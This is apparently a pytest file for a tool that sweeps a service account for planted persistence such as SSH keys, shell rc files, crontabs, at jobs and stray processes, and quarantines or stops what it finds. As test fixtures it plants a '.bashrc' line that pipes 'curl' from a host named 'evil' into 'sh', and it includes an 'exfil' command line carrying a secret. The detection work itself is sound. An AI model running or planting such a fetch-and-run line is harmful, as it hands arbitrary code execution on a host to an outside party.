"""The account sweep (acct-01): the host-side parsing as data, the operation's decisions as data, and
the host-side reads and stops run for real on this machine (``nobody`` plays the service account)."""

from __future__ import annotations

import hashlib
import json
import os
import socket
import subprocess
import time

import pytest

from litellm_runner import settings
from litellm_runner.pyinfra_ext import hostside as hs
from litellm_runner.pyinfra_ext.sweep import AccountSweep, account_sweep, sweep_mode
from tests.unit import fakehost
from tests.unit.fakehost import run_op

UID, GID = 65534, 65534
HEADER = "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode"


# -- /proc/net/tcp{,6} ------------------------------------------------------------------------------
def row(local: str, state: str, uid: int, inode: int, remote: str = "00000000:0000") -> str:
    return f"   0: {local} {remote} {state} 00000000:00000000 00:00000000 00000000 {uid:>5} 0 {inode} 1 0 100 0 0 10 0"


V6_LOOPBACK = "00000000000000000000000001000000"  # ::1, each 32-bit word little-endian
V6_MAPPED = "0000000000000000FFFF00000100007F"  # ::ffff:127.0.0.1


@pytest.mark.parametrize(
    "proto, lines, expected",
    [
        ("tcp", [row("0100007F:0FA0", "0A", 1000, 11)], [("127.0.0.1", 4000, 1000, 11)]),
        ("tcp", [row("00000000:0016", "0A", 0, 12)], [("0.0.0.0", 22, 0, 12)]),
        ("tcp", [row("0100007F:0FA0", "01", 1000, 13, "0100007F:A0E8")], []),  # established: not a listener
        ("tcp", [row("0A58000A:1F90", "0A", 1000, 14)], [("10.0.88.10", 8080, 1000, 14)]),
        ("tcp6", [row(f"{V6_LOOPBACK}:1F90", "0A", 1000, 15)], [("::1", 8080, 1000, 15)]),
        ("tcp6", [row(f"{'0' * 32}:0050", "0A", 1000, 16)], [("::", 80, 1000, 16)]),
        ("tcp6", [row(f"{V6_MAPPED}:0050", "0A", 1000, 17)], [("::ffff:127.0.0.1", 80, 1000, 17)]),
        ("tcp", ["   0: 0100007F:ZZZZ 00000000:0000 0A 0 0 0 1000 0 18", "garbage", ""], []),  # cut or odd lines
        ("tcp", [row("0100007F", "0A", 1000, 19)], []),  # no port
        ("tcp", [row("01007F:0FA0", "0A", 1000, 20)], []),  # not 4 or 16 bytes
        ("tcp", [], []),
    ],
)
def test_net_listeners(proto, lines, expected):
    found = hs.net_listeners("\n".join([HEADER, *lines]), proto)
    assert [(s["address"], s["port"], s["uid"], s["inode"]) for s in found] == expected
    assert all(s["proto"] == proto for s in found)


@pytest.mark.parametrize(
    "address, port, shown",
    [("127.0.0.1", 4000, "127.0.0.1:4000"), ("::1", 8080, "[::1]:8080"), ("::", 22, "[::]:22")],
)
def test_endpoint(address, port, shown):
    assert hs.endpoint({"address": address, "port": port}) == shown


# -- cgroups and the classification of processes ---------------------------------------------------
USER_MANAGER = "/user.slice/user-1000.slice/user@1000.service"
SESSION = "/user.slice/user-0.slice/session-3.scope"
HYBRID = (
    "9:name=systemd:/libpod_parent/libpod-a0/user.slice/user-1000.slice/user@1000.service/app.slice/litellm.service\n"
    "8:pids:/libpod_parent/libpod-a0\n0::/libpod_parent/libpod-a0\n"
)


@pytest.mark.parametrize(
    "text, path",
    [
        (HYBRID, "/libpod_parent/libpod-a0/user.slice/user-1000.slice/user@1000.service/app.slice/litellm.service"),
        (f"0::{USER_MANAGER}/init.scope\n", f"{USER_MANAGER}/init.scope"),  # unified only
        ("0::/system.slice/ssh.service\n1:name=systemd:/user.slice/user-0.slice/session-3.scope\n", SESSION),
        ("garbage\n", ""),
        ("", ""),
    ],
)  # fmt: skip
def test_sweep_cgroup(text, path):
    assert hs.sweep_cgroup(text) == path


@pytest.mark.parametrize(
    "cgroup, unit",
    [
        (f"{USER_MANAGER}/app.slice/litellm.service", "litellm.service"),
        (f"/libpod_parent/libpod-a0{USER_MANAGER}/app.slice/litellm-metrics.service", "litellm-metrics.service"),
        (f"{USER_MANAGER}/init.scope", "init.scope"),
        (f"{USER_MANAGER}/session.slice/dbus.service", "dbus.service"),
        (f"{USER_MANAGER}/app.slice/run-r1234.scope", "run-r1234.scope"),  # systemd-run --user --scope
        (f"{USER_MANAGER}/app.slice/litellm.service/sub", "litellm.service"),  # a delegated sub-cgroup
        (f"{USER_MANAGER}/app.slice", ""),
        (USER_MANAGER, ""),
        ("/user.slice/user-1000.slice/session-3.scope", None),  # a login session of the account
        ("/user.slice/user-0.slice/session-3.scope", None),  # root's SSH session (runuser, nohup)
        ("/user.slice/user-1001.slice/user@1001.service/app.slice/litellm.service", None),  # another account
        ("/", None),
    ],
)
def test_sweep_unit(cgroup, unit):
    assert hs.sweep_unit(cgroup, 1000) == unit


MANAGED = {"litellm.service", "litellm-metrics.service"}


@pytest.mark.parametrize(
    "unit, from_manager, cls",
    [
        ("litellm.service", True, "managed"),
        ("litellm.service", False, "foreign"),  # moved into the unit's cgroup by the account (delegated)
        ("init.scope", True, "manager"),
        ("dbus.service", True, "manager"),
        ("init.scope", False, "foreign"),
        ("run-r1234.scope", True, "foreign"),  # a transient unit the account started
        ("evil.service", True, "foreign"),
        ("", True, "foreign"),
        (None, False, "foreign"),  # nohup from a session
        (None, True, "foreign"),
    ],
)
def test_sweep_class(unit, from_manager, cls):
    assert hs.sweep_class(unit, MANAGED, from_manager) == cls


SOCKETS = {"127.0.0.1:4000"}  # litellm.socket's Listen= (hostside.socket_listens)


@pytest.mark.parametrize(
    "classes, endpoint, managed",
    [
        (["manager", "managed", "managed"], "127.0.0.1:4000", True),  # litellm.socket and the proxy's processes
        (["manager"], "127.0.0.1:4000", True),  # litellm.socket between two proxies: only the manager holds it
        (["manager"], "127.0.0.1:8080", False),  # a transient socket the account asked its manager for
        (["manager", "foreign"], "127.0.0.1:4000", False),  # a nohup'ed process shares it: not only the manager
        (["foreign"], "127.0.0.1:4000", False),  # the port taken by the account's own process
        ([], "127.0.0.1:4000", False),  # owned by the account, its holders unread
        (["managed"], "127.0.0.1:9090", True),  # a managed service's own port
    ],
)
def test_a_listener_of_a_managed_socket_unit_is_the_accounts_own_work(classes, endpoint, managed):
    assert hs.sweep_listener_managed(classes, endpoint, SOCKETS) is managed


@pytest.mark.parametrize(
    "text, endpoints",
    [
        ("[Socket]\nListenStream=127.0.0.1:4000\nService=litellm.service\n", {"127.0.0.1:4000"}),  # as rendered
        ("[Socket]\nListenStream=[::1]:4000\n ListenStream = 10.0.0.5:4100\n", {"[::1]:4000"}),
        ("[Socket]\nListenStream=::1:4000\n", {"[::1]:4000"}),
        ("[Unit]\nListenStream=127.0.0.1:4000\n[Socket]\n", set()),  # not in [Socket]
        ("[Socket]\nListenStream=4000\nListenStream=/run/x.sock\nListenStream=127.0.0.1:x\n", set()),
        ("", set()),
    ],
)
def test_the_managed_sockets_endpoints_as_the_listener_table_names_them(text, endpoints):
    assert hs.listen_streams(text) == endpoints


@pytest.mark.parametrize(
    "owner, mode, link, endpoints",
    [
        (0, 0o644, False, {"127.0.0.1:4000"}),  # root's rendered unit
        (1000, 0o644, False, set()),  # not root's: not believed
        (0, 0o666, False, set()),  # writable by others: not believed
        (0, 0o644, True, set()),  # a link is never followed
    ],
)
def test_the_managed_sockets_are_read_from_roots_own_unit_files(tmp_path, monkeypatch, owner, mode, link, endpoints):
    """socket_listens never asks the account's manager (its Listen= answer is the account's to fake)."""
    real = tmp_path / "real.socket"
    real.write_text("[Socket]\nListenStream=127.0.0.1:4000\n")
    os.chown(real, owner, 0)
    real.chmod(mode)
    if link:
        (tmp_path / "litellm.socket").symlink_to(real)
    else:
        real.rename(tmp_path / "litellm.socket")
    monkeypatch.setattr(hs, "MANAGED_UNITS", str(tmp_path))
    assert hs.socket_listens(["litellm.service", "litellm.socket", "../real.socket"]) == endpoints


# -- evidence: escaping -----------------------------------------------------------------------------
@pytest.mark.parametrize(
    "raw, shown",
    [
        ("sleep", "sleep"),
        (b"python3 -c print(1)", "python3 -c print(1)"),
        ("a\nb\tc\rd", "a\\nb\\tc\\rd"),
        ("\x1b[31mred", "\\x1b[31mred"),  # a terminal escape is not sent to the operator's terminal
        ("evil\u202egnp.sh", "evil\\u202egnp.sh"),  # right-to-left override
        (b"\xff\xfeok", "\\xff\\xfeok"),  # not UTF-8
        ("back\\slash", "back\\\\slash"),  # a backslash is escaped too: nothing shown is ambiguous
        ("grüße", "grüße"),
        ("x" * 10, "xxxx...(6 more)"),
    ],
)
def test_sweep_escape(raw, shown):
    limit = 4 if shown.endswith("more)") else hs.SHOWN
    assert hs.sweep_escape(raw, limit) == shown


# -- settings and the operation's decisions --------------------------------------------------------
HEX = "a" * 64


@pytest.mark.parametrize(
    "value, ok",
    [
        ([], True),
        (["~/.ssh/authorized_keys", f"/var/spool/cron/crontabs/litellm sha256:{HEX}", "exe:/usr/bin/tmux"], True),
        (["port:8443"], True),
        (["port:0"], False),
        (["port:http"], False),
        (["relative/path"], False),
        (["~/../etc/passwd"], False),
        ([f"~/.bashrc sha256:{HEX[:10]}"], False),
        (["exe:tmux"], False),
        ("~/.bashrc", False),
        ([""], False),
    ],
)
def test_account_allowed_setting(value, ok):
    assert (settings.account_allowed(value) is True) == ok


@pytest.mark.parametrize(
    "value, ok", [(None, True), ("off", True), ("report", True), ("quarantine", True), ("on", False), (True, False)]
)
def test_account_sweep_setting(value, ok):
    assert settings.account_sweep(value) == ok


@pytest.mark.parametrize(
    "setting, account, manage, mode",
    [
        (None, {"user": {"uid": 1000}, "created": True}, None, "quarantine"),  # the runner's own account
        (None, {"user": None, "created": False}, None, "quarantine"),  # about to be created by the runner
        (None, {"user": {"uid": 1000}, "created": False}, None, "off"),  # an adopted login account
        (None, {"user": {"uid": 1000}, "created": False}, True, "quarantine"),
        (None, {"user": {"uid": 1000}, "created": True}, False, "off"),
        ("report", {"user": {"uid": 1000}, "created": False}, False, "report"),  # the operator's word wins
        ("off", {"user": {"uid": 1000}, "created": True}, None, "off"),
    ],
)
def test_sweep_mode(setting, account, manage, mode):
    assert sweep_mode(setting, account, manage) == mode


KEY_ITEM = {
    "kind": "authorized_keys",
    "key": "/home/litellm/.ssh/authorized_keys",
    "path": "/home/litellm/.ssh/authorized_keys",
    "why": "a key that logs in as the account",
    "type": "file",
    "owner": "litellm:litellm",
    "mode": "0600",
    "size": 81,
    "mtime": "2026-12-05T07:00:00Z",
    "sha256": HEX,
}
PROC_ITEM = {
    "kind": "process",
    "key": "pid:4242:99",
    "path": "/proc/4242",
    "why": "runs as the account outside the managed units",
    "pid": 4242,
    "cmdline": ["sleep", "1000"],
    "exe": "/usr/bin/sleep",
    "exe_sha256": HEX,
    "started": "2026-12-05T07:00:00Z",
    "sockets": ["127.0.0.1:2931"],
}
CHECKED = {"files": 0, "processes": 3, "listeners": 0, "declared": 0}
ARGS = {"user": "litellm", "units": ["litellm.service"], "allowed": []}


def command(action, **args):
    return f"hostside {action} {json.dumps(args, sort_keys=True)}"


@pytest.mark.parametrize(
    "mode, items, expected, after",
    [
        ("off", [KEY_ITEM], [], []),
        ("quarantine", [], [], []),
        ("report", [], [], []),
        (
            "quarantine",
            [KEY_ITEM, PROC_ITEM],
            [command("sweep_apply", **ARGS, keys=[KEY_ITEM["key"], PROC_ITEM["key"]])],
            ["quarantined", "stopped"],
        ),
        ("report", [KEY_ITEM, PROC_ITEM], [command("sweep", **ARGS)], ["reported", "reported"]),
    ],
)
def test_account_sweep_operation(mode, items, expected, after):
    commands, noops = run_op(
        account_sweep,
        {AccountSweep: {"items": items, "checked": CHECKED}},
        user="litellm",
        units=["litellm.service"],
        mode=mode,
    )
    assert commands == expected
    assert bool(noops) == (not expected)
    if mode == "off":
        assert "off" in noops[0]
    elif not items:
        assert "3 processes" in noops[0]  # the noop says what it looked at
    drifted = fakehost.last_drift
    assert [d["after"] for d in drifted] == after
    for item, record in zip(items if after else [], drifted, strict=True):  # each item named, with its evidence
        assert record["kind"] == f"sweep {item['kind']}" and record["before"]["item"] == item["path"]
        assert all(record["before"][k] == item[k] for k in item if k not in ("key", "kind", "why", "path"))


# -- the host-side reads, run for real (nobody plays the account) -----------------------------------
@pytest.fixture
def account(tmp_path):
    """A home, a skel folder, a crontab spool and an at spool for ``nobody``; a root-only secret beside them."""
    home, skel, crontabs, atjobs = (tmp_path / n for n in ("home", "skel", "crontabs", "atjobs"))
    for d in (home, skel, crontabs, atjobs):
        d.mkdir()
    os.chown(home, UID, GID)
    (skel / ".profile").write_text("# root's skel profile\n")
    (skel / ".bashrc").write_text("# root's skel bashrc\n")
    secret = tmp_path / "secret"
    secret.write_text("root's secret\n")
    secret.chmod(0o600)
    return home, skel, crontabs, atjobs, secret


def owned(path, text=None, mode=0o644):
    if text is not None:
        path.write_text(text)
    path.chmod(mode)
    os.chown(path, UID, GID, follow_symlinks=False)
    return path


def files(account) -> dict[str, dict]:
    home, skel, crontabs, atjobs, _ = account
    found = hs.sweep_files("nobody", UID, str(home), str(crontabs), str(atjobs), str(skel))
    return {item["path"]: item for item in found}


def test_sweep_files_names_each_plant_with_evidence(account):
    home, skel, crontabs, atjobs, secret = account
    owned(home / ".ssh", mode=0o700) if (home / ".ssh").mkdir() is None else None
    key = owned(home / ".ssh" / "authorized_keys", "ssh-ed25519 AAAAC3Nza attacker\n", 0o600)
    owned(home / ".profile", "# root's skel profile\n")  # identical to skel: not the account's
    owned(home / ".bashrc", "# root's skel bashrc\ncurl -s http://evil | sh\n")
    (home / ".bash_profile").symlink_to(secret)  # a link to root's secret: reported as a link
    os.chown(home / ".bash_profile", UID, GID, follow_symlinks=False)
    os.mkfifo(home / ".bash_login")  # a FIFO: the bounded, non-blocking read must not hang
    os.chown(home / ".bash_login", UID, GID)
    owned(crontabs / "nobody", "* * * * * /tmp/x\n", 0o600)
    owned(crontabs / "root", "* * * * * /tmp/y\n", 0o600)  # the account's file under another name
    owned(atjobs / "a0000101b2c3d4", "#!/bin/sh\n/tmp/z\n", 0o700)
    (atjobs / "a0000201b2c3d4").write_text("root's own job\n")
    found = files(account)
    assert set(found) == {
        str(key),
        str(home / ".bashrc"),
        str(home / ".bash_profile"),
        str(home / ".bash_login"),
        str(crontabs / "nobody"),
        str(crontabs / "root"),
        str(atjobs / "a0000101b2c3d4"),
    }
    item = found[str(key)]
    assert item["kind"] == "authorized_keys"
    assert (item["type"], item["owner"], item["mode"], item["size"]) == ("file", "nobody:nogroup", "0600", 31)
    assert item["sha256"] == hashlib.sha256(key.read_bytes()).hexdigest()
    assert item["mtime"] == time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(key.stat().st_mtime))
    assert found[str(home / ".bash_profile")]["type"] == "symlink"
    assert (
        found[str(home / ".bash_profile")]["target"] == str(secret)
        and found[str(home / ".bash_profile")]["sha256"] is None
    )
    assert found[str(home / ".bash_login")]["type"] == "other"
    assert (
        found[str(crontabs / "root")]["kind"] == "crontab" and found[str(atjobs / "a0000101b2c3d4")]["kind"] == "at_job"
    )
    assert secret.read_text() == "root's secret\n" and secret.stat().st_uid == 0


def test_a_linked_ssh_folder_is_one_item_never_followed(account, tmp_path):
    home, *_ = account
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "authorized_keys").write_text("ssh-ed25519 AAAA root's\n")
    (home / ".ssh").symlink_to(elsewhere)
    found = files(account)
    assert list(found) == [str(home / ".ssh")]
    assert found[str(home / ".ssh")]["type"] == "symlink" and found[str(home / ".ssh")]["target"] == str(elsewhere)


def test_each_item_fails_alone(account):
    """An item that cannot be read safely is reported with its reason, the others still are."""
    home, *_ = account
    (home / ".ssh").mkdir()
    os.chown(home / ".ssh", UID, GID)
    owned(home / ".ssh" / "authorized_keys", "ssh-ed25519 AAAA x\n")
    os.link(home / ".ssh" / "authorized_keys", home / ".ssh" / "authorized_keys2")  # a hard link: still hashed
    owned(home / ".zshrc", "x" * 10)
    found = files(account)
    assert {p.rsplit("/", 1)[1] for p in found} == {"authorized_keys", "authorized_keys2", ".zshrc"}


def test_declared_items_are_left_out():
    allowed = hs.sweep_allowed([f"~/.bashrc sha256:{HEX}", "/srv/keys", "exe:/usr/bin/tmux", "port:8443"], "/home/x")
    assert hs._declared({"kind": "shell_file", "key": "/home/x/.bashrc", "sha256": HEX}, allowed)
    assert not hs._declared({"kind": "shell_file", "key": "/home/x/.bashrc", "sha256": "b" * 64}, allowed)
    assert hs._declared({"kind": "authorized_keys", "key": "/srv/keys", "sha256": "c" * 64}, allowed)
    assert hs._declared({"kind": "process", "exe": "/usr/bin/tmux"}, allowed)
    assert not hs._declared({"kind": "process", "exe": "/usr/bin/sleep"}, allowed)
    assert hs._declared({"kind": "listener", "endpoint": "[::1]:8443"}, allowed)


LISTENER = (
    "import socket,time;s=socket.socket();s.bind(('127.0.0.1',0));s.listen();"
    "print(s.getsockname()[1],flush=True);time.sleep(120)"
)


def as_nobody():
    os.setgid(GID)
    os.setuid(UID)


@pytest.fixture
def background():
    """Processes started as nobody (a plain sleep, a listener), killed afterwards if still running."""
    started = []

    def start(argv):
        proc = subprocess.Popen(argv, preexec_fn=as_nobody, stdout=subprocess.PIPE, text=True, cwd="/")  # noqa: S603
        started.append(proc)
        return proc

    yield start
    for proc in started:
        proc.kill()
        proc.wait(timeout=10)


def test_processes_and_listeners_of_the_account_are_found_and_stopped(background):
    sleeper = background(["sleep", "120"])
    listener = background([hs.SYSTEM_PYTHON, "-I", "-c", LISTENER])
    port = int(listener.stdout.readline())
    procs, listeners, counts = hs.sweep_processes(UID, set())
    by_pid = {p["pid"]: p for p in procs}
    assert {sleeper.pid, listener.pid} <= set(by_pid)
    assert by_pid[sleeper.pid]["cmdline"] == ["sleep", "120"]
    assert by_pid[listener.pid]["sockets"] == [f"127.0.0.1:{port}"]
    found = [s for s in listeners if s["port"] == port]
    assert len(found) == 1 and found[0]["pids"] == [listener.pid] and found[0]["uid"] == UID
    item = hs._process_item(by_pid[sleeper.pid], hs._btime())
    assert (
        item["exe_sha256"]
        == hashlib.sha256(open(os.path.realpath(f"/proc/{sleeper.pid}/exe"), "rb").read()).hexdigest()
    )
    assert item["started"].endswith("Z") and item["key"] == f"pid:{sleeper.pid}:{by_pid[sleeper.pid]['start']}"
    # a PID whose start time differs is another process: left alone
    assert hs.sweep_stop([(sleeper.pid, by_pid[sleeper.pid]["start"] + 1)]) == {sleeper.pid: "gone"}
    assert sleeper.poll() is None
    ended = hs.sweep_stop([(p, by_pid[p]["start"]) for p in (sleeper.pid, listener.pid)])
    assert ended == {sleeper.pid: "SIGTERM", listener.pid: "SIGTERM"}
    assert sleeper.wait(timeout=10) == -15 and listener.wait(timeout=10) == -15
    with pytest.raises(OSError):
        socket.create_connection(("127.0.0.1", port), timeout=2)


def test_a_process_that_ignores_sigterm_is_killed(background):
    stubborn = background(
        [
            hs.SYSTEM_PYTHON,
            "-I",
            "-c",
            "import signal,time;signal.signal(15,signal.SIG_IGN);print(1,flush=True);time.sleep(120)",
        ]
    )
    stubborn.stdout.readline()
    start = hs._start_ticks(stubborn.pid)
    assert hs.sweep_stop([(stubborn.pid, start)]) == {stubborn.pid: "SIGKILL"}
    assert stubborn.wait(timeout=10) == -9


def test_a_move_keeps_the_evidence_in_roots_folder(account, tmp_path):
    home, *_ = account
    plant = owned(home / ".bashrc", "curl -s http://evil | sh\n")
    item = files(account)[str(plant)]
    quarantine = tmp_path / "quarantine"
    quarantine.mkdir(mode=0o700)
    qfd = os.open(quarantine, os.O_RDONLY | os.O_DIRECTORY)
    try:
        moved = hs._sweep_move(item, qfd, str(quarantine), 0)
    finally:
        os.close(qfd)
    assert not plant.exists()
    held = quarantine / moved["moved_to"].rsplit("/", 1)[1]
    assert held.read_text() == "curl -s http://evil | sh\n"
    assert moved["sha256"] == item["sha256"] and moved["path"] == str(plant) and moved["owner"] == "nobody:nogroup"


def fp(value: str) -> str:
    return "sha256:" + hashlib.sha256(value.encode()).hexdigest()[:8]


@pytest.mark.parametrize(
    "args, shown",
    [
        (["sleep", "100"], ["sleep", "100"]),
        (["env", "LITELLM_MASTER_KEY=sk-canary123"], ["env", f"LITELLM_MASTER_KEY={fp('sk-canary123')}"]),
        (["app", "--password", "hunter2", "--port", "80"], ["app", "--password", fp("hunter2"), "--port", "80"]),
        (
            ["curl", "http://u:hunter2@h/x?token=abc&x=1"],
            ["curl", f"http://u:{fp('hunter2')}@h/x?token={fp('abc')}&x=1"],
        ),
        (["curl", "-H", "X: Bearer abcdef"], ["curl", "-H", f"X: Bearer {fp('abcdef')}"]),
        (["exfil", "sk-AbCdEf123456"], ["exfil", fp("sk-AbCdEf123456")]),
        (
            ["psql", "postgresql://litellm:pw0rd@127.0.0.1/db"],
            ["psql", f"postgresql://litellm:{fp('pw0rd')}@127.0.0.1/db"],
        ),
    ],
)
def test_sweep_redact(args, shown):
    """A foreign process's command line is evidence, and may carry what it stole: secrets as fingerprints."""
    assert hs.sweep_redact(args) == shown
